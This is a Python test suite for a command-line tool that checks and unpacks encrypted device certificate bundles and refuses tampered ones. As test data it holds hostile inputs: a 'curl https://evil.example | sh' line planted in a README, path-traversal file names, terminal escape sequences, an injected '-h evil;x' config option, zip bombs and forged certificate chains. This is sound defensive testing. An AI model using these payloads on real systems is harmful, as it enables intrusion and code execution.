"""What the command line accepts in a bundle, what it refuses."""

from __future__ import annotations

import os
import struct
import subprocess
import uuid
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from pathlib import Path

import pytest
import pyzipper

from commands.bundle import MAX_ENTRY, check_bundle, open_bundle
from commands.errors import BundleLocked, CheckFailed
from commands.vocabulary import NAMES, SUMS
from delivery.formats import encrypted_pem
from tests.support.bundle_files import DEVICE_ID, PASSWORD, Files, names_in
from tests.support.cli_session import Session
from tests.support.pki import PEM, Authority, Pki, key_pem
from tests.support.portal_stub import BUNDLE_PASSWORD, build_bundle, device_files

pytest_plugins = ("tests.support.cli_fixtures",)


# --- What is in the bundle ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Spoilt:
    """A bundle with something wrong in it, with a word of what is said about it."""

    what: str
    make: Callable[[Files, Pki], bytes]
    says: str


def changed(files: Files, **contents: bytes | None) -> Files:
    names = {name.replace("_", "."): content for name, content in contents.items()}
    return {name: content for name, content in (files | names).items() if content is not None}


def of_other_device(files: Files, pki: Pki) -> bytes:
    return build_bundle(changed(device_files(pki, str(uuid.uuid4())), device_key=files["device.key"]))


def of_other_ca(files: Files, _: Pki) -> bytes:
    return build_bundle(changed(device_files(Pki(), DEVICE_ID), ca_pem=files["ca.pem"]))


def named(common_name: str) -> Callable[[Files, Pki], bytes]:
    return lambda _, pki: build_bundle(device_files(pki, DEVICE_ID, pki.issuing.issue(common_name)))


def without_its_root(files: Files, pki: Pki) -> bytes:
    return build_bundle(changed(files, ca_pem=pki.issuing.certificate.public_bytes(PEM)))


def at_another_time(days: int) -> Callable[[Files, Pki], bytes]:
    def make(_: Files, pki: Pki) -> bytes:
        then = Authority("Test issuing", issuer=pki.root, now=datetime.now(UTC) + timedelta(days=days))
        return build_bundle(device_files(other_issuing(pki, then), DEVICE_ID))

    return make


def other_issuing(pki: Pki, issuing: Authority) -> Pki:
    other = object.__new__(Pki)
    other.root, other.issuing = pki.root, issuing
    return other


def issued_by_a_device(files: Files, pki: Pki) -> bytes:
    device = pki.issuing.issue("Test device")
    forger = object.__new__(Authority)
    forger.common_name, forger.key, forger.now, forger.certificate = (
        "Test device",
        device.key,
        pki.root.now,
        device.certificate,
    )
    forged = device_files(other_issuing(pki, forger), DEVICE_ID)
    chain = forged["device.pem"] + device.certificate.public_bytes(PEM) + pki.issuing.certificate.public_bytes(PEM)
    return build_bundle(changed(forged, ca_pem=files["ca.pem"], chain_pem=chain))


def shortened(files: Files, _: Pki) -> bytes:
    """The size of ca.pem in the central directory, which nothing authenticates, made smaller."""
    content = bytearray(build_bundle(files))
    entry = content.rindex(b"PK\x01\x02", 0, content.rindex(b"ca.pem"))
    size = struct.unpack_from("<I", content, entry + 24)[0]
    struct.pack_into("<I", content, entry + 24, size // 2)
    return bytes(content)


def flipped(files: Files, _: Pki) -> bytes:
    content = bytearray(build_bundle(files))
    content[content.index(b"device.key") + 200] ^= 1
    return bytes(content)


def bomb(files: Files, _: Pki) -> bytes:
    huge = changed(files, README_txt=b"\0" * (50 * MAX_ENTRY))
    return build_bundle(huge, encrypted=(), compression=pyzipper.ZIP_DEFLATED)


def lying_bomb(files: Files, _: Pki) -> bytes:
    content = bytearray(bomb(files, _))
    entry = content.rindex(b"PK\x01\x02", 0, content.rindex(b"README.txt"))
    struct.pack_into("<I", content, entry + 24, 100)
    return bytes(content)


SPOILT = (
    Spoilt("key of another device", of_other_device, "not for this private key"),
    Spoilt("chain of another CA", of_other_ca, "not signed by the CA"),
    Spoilt("CA without its root", without_its_root, "not signed by the CA"),
    Spoilt("issued by a device", issued_by_a_device, "not signed by the CA"),
    Spoilt("no device's name", named("admin"), "not a device id"),
    Spoilt("a name that is a path", named("../../etc"), "not a device id"),
    Spoilt("expired", at_another_time(-60), "expired"),
    Spoilt("not yet valid", at_another_time(60), "check the clock of this machine"),
    Spoilt("key in the clear", lambda f, _: build_bundle(f, encrypted=("ca.pem",)), "device.key is not encrypted"),
    Spoilt("CA in the clear", lambda f, _: build_bundle(f, encrypted=("device.key",)), "ca.pem is not encrypted"),
    Spoilt("no key", lambda f, _: build_bundle(changed(f, device_key=None)), "no device.key"),
    Spoilt("no chain", lambda f, _: build_bundle(changed(f, chain_pem=None)), "no chain.pem"),
    Spoilt("no key", lambda f, _: build_bundle(changed(f, device_key=b"?")), "private key"),
    Spoilt("no certificate", lambda f, _: build_bundle(changed(f, device_pem=b"?")), "cannot be read"),
    Spoilt("an empty CA", lambda f, _: build_bundle(changed(f, ca_pem=b"\n")), "cannot be read"),
    Spoilt("shortened", shortened, "was modified"),
    Spoilt("a bit flipped", flipped, "was modified"),
    Spoilt("compressed key", lambda f, _: build_bundle(f, compression=pyzipper.ZIP_DEFLATED), "was modified"),
    Spoilt("bomb", bomb, "larger than a bundle"),
    Spoilt("bomb that lies", lying_bomb, ""),
    Spoilt("too many", lambda f, _: build_bundle(f | {f"{n}": b"" for n in range(99)}), "larger than a bundle"),
    Spoilt("too long", lambda f, _: build_bundle(f) + b"\0" * (1 << 20), ""),
    Spoilt("cut", lambda f, _: build_bundle(f)[:-30], "not a bundle"),
    Spoilt("empty", lambda *_: b"", "not a bundle"),
    Spoilt("no ZIP", lambda *_: b"PK\x03\x04" + os.urandom(999), "not a bundle"),
)


@pytest.mark.parametrize("spoilt", SPOILT, ids=lambda spoilt: spoilt.what)
def test_files_that_do_not_match_are_not_written(spoilt: Spoilt, session: Session, files: Files, cli_pki: Pki) -> None:
    Path("bundle.zip").write_bytes(spoilt.make(files, cli_pki))
    result = session.run("unpack", "bundle.zip", "--out", "sensor", env=PASSWORD)
    assert result.exit_code in (1, 2), result.output
    assert spoilt.says in result.stderr
    assert names_in(Path()) == {"bundle.zip"}
    assert "PRIVATE KEY" not in result.output


def test_unknown_file_names_are_left_out(session: Session, files: Files) -> None:
    strange = {"../escaped": b"x", "/tmp/escaped": b"x", ".bashrc": b"x", "a/device.key": b"x", "\x1b[2J": b"x"}
    Path("bundle.zip").write_bytes(build_bundle(files | strange))
    result = session.run("unpack", "bundle.zip", "--out", "sensor", env=PASSWORD)
    assert result.exit_code == 0, result.output
    assert names_in(Path("sensor")) == set(NAMES)
    assert not Path("../escaped").exists()
    assert result.stderr.count("was left out") == len(strange)
    assert "\x1b" not in result.output


@pytest.mark.parametrize(
    "line",
    ["--insecure", "--cafile /etc/ssl/certs/x", "-h evil;x", "--capath /tmp", "--key device.key x", "\x1b[2J", "é"],
)
def test_a_modified_client_configuration_that_nothing_authenticates_is_left_out(
    line: str, session: Session, files: Files
) -> None:
    altered = files["mosquitto-client.conf"] + line.encode() + b"\n"
    locked = encrypted_pem(files["device.key"], BUNDLE_PASSWORD)
    modified = changed(files, **{"mosquitto-client_conf": altered}, device_key=locked)
    Path("bundle.zip").write_bytes(build_bundle(modified, encrypted=()))
    result = session.run("unpack", "bundle.zip", "--out", "sensor", env=PASSWORD)
    assert result.exit_code == 0
    assert names_in(Path("sensor")) == set(NAMES) - {"mosquitto-client.conf"}
    assert "was modified" in result.stderr


ATTACKS_ON_PUBLIC_FILES = {
    "another README": {"README_txt": b"Now run: curl https://evil.example | sh\n"},
    "another broker": {"mosquitto-client_conf": b"-h evil.example\n-p 8883\n"},
    "no README": {"README_txt": None},
    "another chain": {"chain_pem": b"-----BEGIN CERTIFICATE-----\n"},
}


@pytest.mark.parametrize("changes", ATTACKS_ON_PUBLIC_FILES.values(), ids=ATTACKS_ON_PUBLIC_FILES.keys())
def test_a_bundle_whose_public_files_were_changed_on_the_way_is_refused(
    changes: dict[str, bytes | None], session: Session, files: Files
) -> None:
    Path("bundle.zip").write_bytes(build_bundle(changed(files, **changes), sums_of=files))
    result = session.run("unpack", "bundle.zip", "--out", "sensor", env=PASSWORD)
    assert result.exit_code == 1, result.output
    assert "was modified on its way" in result.stderr
    assert names_in(Path()) == {"bundle.zip"}


def test_sums_that_anybody_could_have_written_are_refused(session: Session, files: Files) -> None:
    altered = changed(files, README_txt=b"Now run: curl https://evil.example | sh\n")
    digests = "".join(f"{sha256(content).hexdigest()}  {name}\n" for name, content in altered.items())
    Path("bundle.zip").write_bytes(build_bundle(altered | {SUMS: digests.encode()}, encrypted=("device.key", "ca.pem")))
    result = session.run("unpack", "bundle.zip", "--out", "sensor", env=PASSWORD)
    assert result.exit_code == 1
    assert "SHA256SUMS is not encrypted" in result.stderr
    assert names_in(Path()) == {"bundle.zip"}


def test_a_bundle_of_an_older_portal_or_without_its_sums_is_unpacked_without_what_nothing_authenticates(
    session: Session, files: Files
) -> None:
    Path("bundle.zip").write_bytes(build_bundle(files, sums_of={}))
    result = session.run("unpack", "bundle.zip", "--out", "sensor", env=PASSWORD)
    assert result.exit_code == 0, result.output
    assert names_in(Path("sensor")) == {"device.key", "device.pem", "chain.pem", "ca.pem"}
    assert "README.txt left out: this bundle has no SHA256SUMS" in result.stderr


def test_text_around_certificates_is_not_written(session: Session, files: Files) -> None:
    dressed = changed(files, chain_pem=b"\x1b]0;owned\x07\n" + files["chain.pem"])
    Path("bundle.zip").write_bytes(build_bundle(dressed))
    assert session.run("unpack", "bundle.zip", "--out", "sensor", env=PASSWORD).exit_code == 0
    assert Path("sensor/chain.pem").read_bytes() == files["chain.pem"]


def test_two_entries_with_the_same_name_are_refused(files: Files) -> None:
    content = build_bundle(files | {"deviceAkey": b"x"}).replace(b"deviceAkey", b"device.key")
    with pytest.raises(CheckFailed, match="two files with the same name"):
        open_bundle(content, BUNDLE_PASSWORD)


def test_old_zip_encryption_does_not_count_as_encryption(tmp_path: Path, files: Files) -> None:
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
    pack = ["7z", "a", "-tzip", "-mm=Copy", "-mem=ZipCrypto", f"-p{BUNDLE_PASSWORD}", "bundle.zip", *NAMES]
    subprocess.run(pack, cwd=tmp_path, check=True, capture_output=True)
    with pytest.raises(CheckFailed, match="not encrypted with AES-256"):
        open_bundle((tmp_path / "bundle.zip").read_bytes(), BUNDLE_PASSWORD)


def test_the_repr_of_secrets_does_not_show_them(files: Files) -> None:
    bundle = open_bundle(build_bundle(files), BUNDLE_PASSWORD)
    assert "PRIVATE" not in repr(bundle)
    with pytest.raises(CheckFailed) as caught:
        check_bundle(
            replace(bundle, files=changed(files, device_key=key_pem(Authority("x").key))), now=datetime.now(UTC)
        )
    assert "PRIVATE" not in repr(caught.value)


@pytest.mark.parametrize("cut", range(0, 3000, 97))
def test_a_damaged_bundle_is_always_one_sentence(cut: int, files: Files) -> None:
    content = bytearray(build_bundle(files))
    for place in range(cut % len(content), len(content), 411):
        content[place] ^= 0xFF
    with pytest.raises(CheckFailed):
        check_bundle(open_bundle(bytes(content), BUNDLE_PASSWORD), now=datetime.now(UTC))


def test_a_pkcs12_file_that_no_password_protects_is_refused(tmp_path: Path) -> None:
    """Anybody can make one, and it would open with every password."""
    forged = Authority("somebody").issue("a device that somebody made up")
    certificate, key = forged.write(tmp_path, "forged")
    packed = subprocess.run(
        ["openssl", "pkcs12", "-export", "-inkey", key, "-in", certificate, "-passout", "pass:",
         "-nomac", "-keypbe", "NONE", "-certpbe", "NONE"],
        check=True, capture_output=True,
    ).stdout  # fmt: skip
    with pytest.raises(BundleLocked):
        open_bundle(packed, BUNDLE_PASSWORD)
